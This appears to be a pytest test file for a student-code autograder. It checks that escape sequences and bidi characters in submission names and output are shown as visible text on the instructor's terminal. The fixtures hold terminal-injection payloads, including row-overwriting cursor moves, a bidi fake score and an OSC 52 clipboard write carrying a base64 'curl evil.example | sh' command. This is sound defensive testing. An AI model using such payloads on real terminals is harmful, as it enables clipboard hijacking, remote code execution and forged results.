"""Nothing a submission chooses acts on the instructor's terminal (issue 11): it is shown as text.

`grade` runs on a pseudo-terminal (a real one, as the instructor's: the progress line is drawn),
and what it wrote is played on a terminal emulator (pyte): the screen must show every honest row
as graded, and the raw bytes must hold no escape sequence, bell or bidi override of a submission.
"""

import base64
import json
import fcntl
import io
import os
import pty
import select
import shutil
import struct
import subprocess
import sys
import termios
import zipfile
from pathlib import Path

import pyte
import pytest
from checkout_support import checkout_env, imported_grader
from costs import slow_fixture
from click.testing import CliRunner

from grader.cli import main

ROOT = Path(__file__).resolve().parents[1]
CORRECT = ROOT / "tests" / "fixtures" / "submissions" / "correct-closures" / "engine.py"
COLUMNS, LINES = 200, 60
# What the grader itself may colour: its own warning (no bubblewrap here), never a submission's text.
GRADERS_OWN_STYLES = (b"\x1b[33m", b"\x1b[0m")
# ESC (7-bit sequences), BEL (ends an OSC), C1 CSI and OSC as UTF-8, bidi overrides and isolates as UTF-8
NEVER_FROM_A_SUBMISSION = (b"\x1b", b"\x07", b"\xc2\x9b", b"\xc2\x9d", *(chr(c).encode() for c in [
    *range(0x202A, 0x202F), *range(0x2066, 0x206A)]))

# Entries named to attack the table (ids sort in this order: each attacker right after its victim).
ROW_OVERWRITE = "alice\x1b[A\ralice  graded        0\u221562\x1b[K"  # moves up over alice's row: "0∕62"
# (a name holds no "/": U+2215, the division slash, looks the same)
OSC52 = "mallory\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode()  # unterminated: eats the rest
BIDI = "trudy\u202e26\u221526 dedarg"  # shown reversed: "graded 62∕62"
BELL = "victor\x07\x07\x07"


def _class(folder):
    folder.mkdir()
    for name in ("alice", ROW_OVERWRITE, OSC52, BIDI, BELL, "zoe"):
        (folder / name).mkdir()
        shutil.copy(CORRECT, folder / name / "engine.py")
    # a zip whose folder name moves the cursor onto its own rejected row and writes a fake score there
    with zipfile.ZipFile(folder / "dave.zip", "w") as archive:
        archive.writestr("hw\x1b[1A\x1b[30G62\u221562\x1b[K/notes.txt", "no engine here\n")


def _run_on_a_terminal(args, cwd):
    """Run `args` with a pseudo-terminal as its stdin, stdout and stderr; its exit status and every byte it wrote."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", LINES, COLUMNS, 0, 0))
    env = checkout_env(COLUMNS=str(COLUMNS), TERM="xterm-256color")
    proc = subprocess.Popen(args, stdin=slave, stdout=slave, stderr=slave, cwd=cwd, env=env, start_new_session=True)
    os.close(slave)
    written = bytearray()
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 600)
            if not ready:
                pytest.fail("grade wrote nothing for 10 minutes")
            try:
                data = os.read(master, 1 << 16)
            except OSError:  # EIO: every process holding the terminal has closed it
                break
            if not data:
                break
            written += data
    finally:
        os.close(master)
        status = proc.wait(timeout=300)  # a hang's bound (README)
    return status, bytes(written)


def test_the_grade_on_a_terminal_imports_the_checkout_under_test(tmp_path, monkeypatch):
    """_run_on_a_terminal's process imports the grader of the checkout this file is in, from a temporary folder and
    whatever PYTHONPATH says (checkout_env): it imported the venv's editable install (another checkout's grader)
    unless pytest-xdist had set PYTHONPATH to this one."""
    monkeypatch.delenv("PYTHONPATH", raising=False)
    status, written = _run_on_a_terminal([sys.executable, "-c", "import grader; print(grader.__file__)"], tmp_path)
    assert (status, imported_grader(written.decode())) == (0, [str(ROOT)])


def _screen(written):
    screen = pyte.Screen(COLUMNS, LINES)
    pyte.ByteStream(screen).feed(written)
    return [line.rstrip() for line in screen.display]


@slow_fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("terminal")
    _class(tmp / "class")
    status, written = _run_on_a_terminal(
        [sys.executable, "-m", "grader", "run", str(tmp / "class"), "-o", str(tmp / "scores.json"), "--no-cache",
         "--jobs", "2", "--format", "csv"], tmp)
    full = json.loads((tmp / "scores.json").read_text(encoding="utf-8"))["max_score"]
    return status, written, _screen(written), f"{full:g}/{full:g}"


def test_no_escape_sequence_of_a_submission_reaches_the_terminal(graded):
    status, written, _, _ = graded
    assert status == 0, written.decode(errors="replace")
    raw = written
    for style in GRADERS_OWN_STYLES:
        raw = raw.replace(style, b"")
    found = [bytes(seq) for seq in NEVER_FROM_A_SUBMISSION if seq in raw]
    assert found == [], written


def test_every_row_reads_as_graded_on_the_screen(graded):
    _, written, screen, full_marks = graded

    def row(shown_id):  # the table shows an id in at most 24 characters
        found = [line for line in screen if line.startswith(shown_id[:24] + " ")]
        assert len(found) == 1, (shown_id, screen)
        return found[0][24:].split()

    assert row("alice") == ["graded", full_marks]
    assert row("zoe") == ["graded", full_marks]  # after the unterminated OSC 52
    # each attacker has its own row, its name shown with visible escapes
    assert row("alice\\x1b[A\\x0dalice  graded") == ["graded", full_marks]
    assert row("mallory\\x1b]52;c;Y3VybCBldmlsLmV4") == ["graded", full_marks]
    assert row("trudy\\u202e26\u221526 dedarg") == ["graded", full_marks]
    assert row("victor\\x07\\x07\\x07") == ["graded", full_marks]
    dave = row("dave")
    assert dave[:2] == ["rejected", "0/" + full_marks.split("/")[1]] and "dave.zip/hw\\x1b[1A\\x1b[30G…" in dave, screen
    assert any(line.startswith("Graded 7 submissions against 'engine'") for line in screen), screen


def test_the_gradebook_holds_the_same_visible_escapes(graded, tmp_path_factory):
    _, _, _, full_marks = graded
    csv_text = (Path(str(tmp_path_factory.getbasetemp())) / "terminal0" / "scores.csv").read_bytes()
    assert not any(seq in csv_text.replace(b"\r\n", b"") for seq in (*NEVER_FROM_A_SUBMISSION, b"\r"))
    score = full_marks.split("/")[0]
    assert f"alice\\x1b[A\\x0dalice  graded        0\u221562\\x1b[K,{score},{score},graded".encode() in csv_text


def test_gradescope_run_shows_what_the_student_printed_as_text(tmp_path, monkeypatch):
    # what the submission printed goes to the log Gradescope shows the instructor: escapes visible
    from grader.pipeline import BatchResult
    from grader.integrations import gradescope

    row = {"id": "sub\x1b[2J", "status": "graded", "score": 1.0, "max_score": 1.0, "tests": []}
    printed = "\x1b]52;c;cHduZWQ=\x07\x1b[2J\rfake\u202e line\nnext\n"
    batch = BatchResult({"exercise": "engine", "max_score": 1.0, "submissions": [row]},
                        {row["id"]: {"output": printed}}, 0.1, 1, "bubblewrap", None)
    monkeypatch.setattr(gradescope, "autograde", lambda root: ({"score": 1.0}, batch))
    result = CliRunner().invoke(main, ["gradescope-run", "--root", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert result.output == (
        "Graded 'sub\\x1b[2J' against 'engine': 1/1 (graded; sandbox: bubblewrap; 0.1 s).\n"
        "--- what the submission printed (control characters shown as escapes) ---\n"
        "\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\x0dfake\\u202e line\nnext\n\n")


class _Terminal(io.StringIO):
    def isatty(self):
        return True


class _Entry:
    def __init__(self, sid):
        self.id = sid


def test_the_progress_line_names_what_is_still_running_and_never_counts_down_past_it():
    # issue 30: `6/7 0 s left  grace` stood for 11 s while frank was still timing out
    from grader.cli.terminal import Progress

    now = [100.0]
    progress = Progress(_Terminal(), clock=lambda: now[0], tick=0)
    ids = ["alice", "bob", "carol", "dave", "erin", "frank", "grace"]
    progress.start(len(ids) + 1, 1, ids)  # and one rejected entry
    assert progress.line().endswith("1/8  …  waiting for alice, bob +5")
    progress.advance(_Entry("alice"), {}, True)  # from the cache: says nothing of the time the rest take
    assert "…" in progress.line()
    for sid in ["bob", "carol", "dave", "erin", "grace"]:
        now[0] += 2.0
        progress.advance(_Entry(sid), {}, False)
    # 10 s for 5 observed, one left: about 2 s, counted down
    assert progress.line().endswith("7/8  about 2 s left  waiting for frank")
    now[0] += 1.0
    assert progress.line().endswith("7/8  about 1 s left  waiting for frank")
    now[0] += 10.0
    assert progress.line().endswith("7/8  11 s since the last finished  waiting for frank")
    now[0] += 3.0
    progress.advance(_Entry("frank"), {}, False)
    assert progress.line().endswith("8/8  about 0 s left")
    progress.finish()
